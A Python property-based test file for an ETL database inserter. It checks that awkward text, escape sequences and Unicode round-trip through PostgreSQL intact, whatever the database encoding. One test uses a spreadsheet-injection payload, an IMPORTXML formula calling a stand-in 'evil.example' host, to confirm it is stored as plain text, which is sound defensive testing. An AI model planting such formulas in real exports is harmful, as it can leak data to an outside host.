"""What is storable comes back out of the table as it was."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg2.extensions import connection

from etl.components.database_inserter import DatabaseInserter
from etl.demo.campus import record
from tests.conftest import Parameters, rows_in
from tests.database_inserter.batches import batch, entry, insert, opened, rows_of
from tests.database_inserter.conftest import Build, Execute

FORMULA = '=IMPORTXML("https://evil.example","//a")'
AWKWARD = (
    "\\N", "\\.", "\\", "\\\\n", "\t", "\n", "\r\n", "", "NULL", "'", '"', "%s", "\x01", "\x7f",
)  # fmt: skip

# Whatever PostgreSQL's text can hold: no NUL, no lone surrogates.
storable = st.none() | st.sampled_from(AWKWARD) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
    | st.sampled_from("\\\t\n\r\x0b\x0c\x85\u2028\ufeffN.")
)  # fmt: skip
texts = st.tuples(storable, storable, storable)


def attempts(passbacks: list[tuple[str | None, ...]]) -> list[dict[str, Any]]:
    return [
        {
            "user_id": str(number),
            "oauth_consumer_key": key,
            "lis_result_sourcedid": sourced_id,
            "lis_outcome_service_url": url,
            "is_correct": (True, False)[number % 2],
            "attempt_type": "submit",
            "created_at": "2023-05-31 09:16:11.313646",
        }
        for number, (key, sourced_id, url) in enumerate(passbacks)
    ]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(passbacks=st.lists(texts, min_size=1, max_size=8))
def test_any_storable_text_comes_back_as_it_was(
    inserter: DatabaseInserter, colleague: connection, passbacks: list[tuple[str | None, ...]]
) -> None:
    with colleague, colleague.cursor() as at:
        at.execute("DELETE FROM attempts")
    assert insert(inserter, rows_of(attempts(passbacks))).inserted == len(passbacks)
    assert insert(inserter, rows_of(attempts(passbacks))).duplicates == len(passbacks)
    with colleague, colleague.cursor() as at:
        at.execute(
            "SELECT oauth_consumer_key, lis_result_sourcedid, lis_outcome_service_url"
            " FROM attempts ORDER BY user_id::int"
        )
        assert at.fetchall() == passbacks


def test_r8_a_formula_is_stored_as_the_text_that_it_is(
    inserter: DatabaseInserter, select: Execute
) -> None:
    passback = repr({"lis_result_sourcedid": FORMULA})
    insert(inserter, batch(record(lti_user_id="=1+1", passback_params=passback)))
    assert select("SELECT user_id, lis_result_sourcedid FROM attempts") == [("=1+1", FORMULA)]


def test_d5_the_encoding_of_the_database_is_of_no_importance(
    build: Build, encoded: Callable[[str], Parameters]
) -> None:
    server = encoded("SQL_ASCII")
    inserter = opened(build(server=server))
    assert insert(inserter, rows_of(attempts([("ключ", "🎓", None)]))).inserted == 1
    assert insert(inserter, batch('"Опечатка"')).rejected == 1
    inserter.close(entry())
    stored = "SELECT oauth_consumer_key, record FROM attempts, rejected_attempts"
    assert rows_in({**server, "client_encoding": "UTF8"}, stored) == [("ключ", '"Опечатка"')]
